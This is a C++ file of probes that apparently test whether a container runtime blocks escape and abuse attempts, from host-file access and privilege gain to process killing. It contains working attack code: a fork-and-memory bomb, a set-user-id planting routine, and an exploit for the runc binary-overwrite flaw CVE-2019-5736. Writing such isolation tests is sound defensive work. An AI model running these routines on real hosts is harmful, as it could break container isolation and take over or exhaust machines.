// What the scripts run inside of a container, called as the attacks are. Each is a part of an attack; the script says
// which.
#include <dirent.h>
#include <linux/capability.h>
#include <sys/mman.h>
#include <sys/sysmacros.h>
#include <sys/vfs.h>

#include "attack.h"

// sees_outside DIRECTORY: whether the host's file `marker` is there
ATTACK(sees_outside) {
  if (chdir(words[0]) != 0) return refused(words[0]);
  return verdict("marker", access("marker", F_OK));
}

// gain_user: whether a set-user-id program has made us root
ATTACK(gain_user) {
  errno = EPERM;
  return geteuid() == 0 ? succeeded("root") : refused("root");
}

// gain_capability: whether a file's capabilities are ours
ATTACK(gain_capability) {
  __user_cap_header_struct head = {_LINUX_CAPABILITY_VERSION_3, 0};
  __user_cap_data_struct data[2] = {};
  syscall(SYS_capget, &head, data);
  errno = EPERM;
  return data[0].effective != 0 ? succeeded("it has a capability") : refused("no capability");
}

// open_node FILE: for writing, as that needs no capability for the kernel's log
ATTACK(open_node) { return verdict(words[0], open(words[0], O_WRONLY | O_CLOEXEC | O_NONBLOCK)); }

// answer: what a healthy neighbour can do: make a process and use some memory
ATTACK(answer) {
  const pid_t child = fork();
  if (child < 0) return refused("fork");
  if (child == 0) {
    void* const memory = malloc(1 << 20);
    if (memory == nullptr) _exit(1);
    memset(memory, 1, 1 << 20);
    _exit(0);
  }
  int status = 0;
  waitpid(child, &status, 0);
  errno = ENOMEM;
  return status == 0 ? succeeded("it answers") : refused("its child was killed");
}

// storm: all that a machine could be starved with, for two seconds
ATTACK(storm) {
  puts("ready");
  alarm(2);
  for (unsigned number = 1;; ++number) {
    const pid_t child = fork();
    if (child == 0) {
      if (number % 8 == 0) memset(malloc(4 << 20), 1, 4 << 20);
      pause();
    }
    if (child < 0) usleep(1000);
  }
}

// kill_process NUMBER
ATTACK(kill_process) { return verdict("kill", kill(atoi(words[0]), SIGTERM)); }

// flood: a megabyte of output
ATTACK(flood) {
  char line[1024];
  memset(line, 'x', sizeof line);
  line[sizeof line - 1] = '\n';
  for (int number = 0; number < 1024; ++number) (void)!write(1, line, sizeof line);
  return succeeded("a megabyte");
}

// plant FILE: a set-user-id program, a copy of ourselves
ATTACK(plant) {
  const int from = open("/proc/self/exe", O_RDONLY);
  const int to = open(words[0], O_WRONLY | O_CREAT | O_TRUNC, 0755);
  static char block[1 << 16];
  for (ssize_t size = read(from, block, sizeof block); size > 0; size = read(from, block, sizeof block)) {
    if (write(to, block, static_cast<size_t>(size)) != size) return broken(words[0]);
  }
  return verdict(words[0], fchmod(to, 04755));
}

// real_place PATH KIND: whether PATH is not what we mounted there. KIND: proc, sysfs, tmpfs, devpts, null or other
// (anything but the host's file)
ATTACK(real_place) {
  struct Kind {
    const char* name;
    long type;
  };
  constexpr Kind kinds[] = {{"proc", 0x9fa0}, {"sysfs", 0x62656572}, {"tmpfs", 0x01021994}, {"devpts", 0x1cd1}};
  const char* const path = words[0];
  struct stat status;
  if (lstat(path, &status) != 0) return refused(path);
  if (strcmp(words[1], "other") != 0 && S_ISLNK(status.st_mode)) return succeeded("it is still a symbolic link");
  if (strcmp(words[1], "null") == 0 && !(S_ISCHR(status.st_mode) && status.st_rdev == makedev(1, 3))) {
    return succeeded("it is not the null device");
  }
  for (const Kind& kind : kinds) {
    struct statfs system;
    if (strcmp(words[1], kind.name) != 0) continue;
    if (statfs(path, &system) != 0) return broken(path);
    if (static_cast<long>(system.f_type) != kind.type) return succeeded("it is another file system");
  }
  char text[64] = "";
  const int file = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (file >= 0 && read(file, text, sizeof text - 1) > 0 && strstr(text, "of the host") != nullptr) {
    return succeeded("it is the host's");
  }
  errno = 0;
  return refused("it is what it should be");
}

// overwrite_mapped FILE
ATTACK(overwrite_mapped) {
  const int file = open(words[0], O_RDWR | O_CLOEXEC);
  void* const memory = file < 0 ? MAP_FAILED : mmap(nullptr, 2, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
  if (memory == MAP_FAILED) return refused(words[0]);
  memcpy(memory, "X", 1);
  return verdict("msync", msync(memory, 2, MS_SYNC));
}

// rename_host: host name and domain name
ATTACK(rename_host) {
  const int name = sethostname("attacked", 8);
  return verdict("sethostname", name == 0 ? setdomainname("attacked", 8) : name);
}

// overwrite_exe [kill]: waits for processes that execute another file than its own, keeps that file open by
// /proc/PID/exe and writes into it as soon as nobody executes it any more (CVE-2019-5736). WORD `kill`: ends those
// processes itself.
ATTACK(overwrite_exe) {
  puts("ready");
  struct stat own;
  if (stat("/proc/self/exe", &own) != 0) return broken("/proc/self/exe");
  int kept[64];
  int number_kept = 0;
  for (int turn = 0; turn < 2000; ++turn) {
    DIR* const processes = opendir("/proc");
    if (processes == nullptr) return refused("/proc");
    while (const dirent* const entry = readdir(processes)) {
      const int process = atoi(entry->d_name);
      char path[64];
      struct stat other;
      snprintf(path, sizeof path, "/proc/%d/exe", process);
      if (process <= 0 || stat(path, &other) != 0 || other.st_ino == own.st_ino) continue;
      const int file = number_kept < 64 ? open(path, O_RDONLY | O_CLOEXEC) : -1;
      if (file >= 0) kept[number_kept++] = file;
      if (count > 0) kill(process, SIGKILL);
    }
    closedir(processes);
    for (int index = 0; index < number_kept; ++index) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", kept[index]);
      const int file = open(path, O_WRONLY | O_CLOEXEC);
      if (file >= 0 && write(file, "owned", 5) == 5) return succeeded("the program is overwritten");
    }
    usleep(1000);
  }
  return refused(number_kept == 0 ? "no program was seen" : "write to the program");
}
